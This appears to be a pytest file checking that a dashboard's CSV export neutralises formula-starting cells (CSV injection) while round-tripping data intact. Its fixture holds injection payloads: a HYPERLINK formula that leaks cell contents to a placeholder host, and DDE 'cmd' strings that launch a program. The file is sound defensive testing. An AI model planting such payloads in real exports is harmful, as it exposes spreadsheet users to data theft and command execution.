"""The CSV export never hands a spreadsheet a formula (OWASP CSV injection), and still reads back as it was."""

from __future__ import annotations

import csv
import io

import pytest

from dashboard.export.tables import to_csv
from dashboard.store import csvfile
from dashboard.store.sqlite import Store

HOSTILE = {
    "claimed_by": '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "source": "+cmd|' /C calc'!A0",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "actor1": "-2+3",
    "actor2": "\t=1+1",
    "location": "\r=1+1",
    "admin1": "'=already quoted",  # an analyst's own leading quote survives the round trip too
}


@pytest.fixture()
def hostile(incidents_copy):
    df = csvfile.load(incidents_copy)
    for column, value in HOSTILE.items():
        df.at[1, column] = value
    df.at[2, "longitude"] = -45.25
    return incidents_copy, df


def _cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_text_cells_that_start_a_formula_are_neutralised(hostile):
    _, df = hostile
    cells = _cells(to_csv(df))
    for column, value in HOSTILE.items():
        assert cells[1][column] == "'" + value, column
    assert cells[0]["claimed_by"] == df.at[0, "claimed_by"]  # ordinary text untouched


def test_numeric_columns_stay_numbers(hostile):
    _, df = hostile
    cells = _cells(to_csv(df))
    assert cells[2]["longitude"] == "-45.25"
    assert float(cells[2]["longitude"]) == -45.25


def test_the_export_reads_back_through_validate_and_import_csv(hostile, tmp_path):
    path, df = hostile
    exported = path.with_name("exported.csv")  # beside the original, so source_path still finds the article
    exported.write_bytes(to_csv(df))
    back = csvfile.read_csv(exported)
    for column, value in HOSTILE.items():
        assert back.at[1, column] == value, column
    assert csvfile.validate(back, exported.parent) == []
    store = Store(tmp_path / "store" / "incidents.db")
    assert store.import_csv(exported)[0].added == len(df)
    assert store.load().set_index("incident_id").loc[df.at[1, "incident_id"], "claimed_by"] == HOSTILE["claimed_by"]
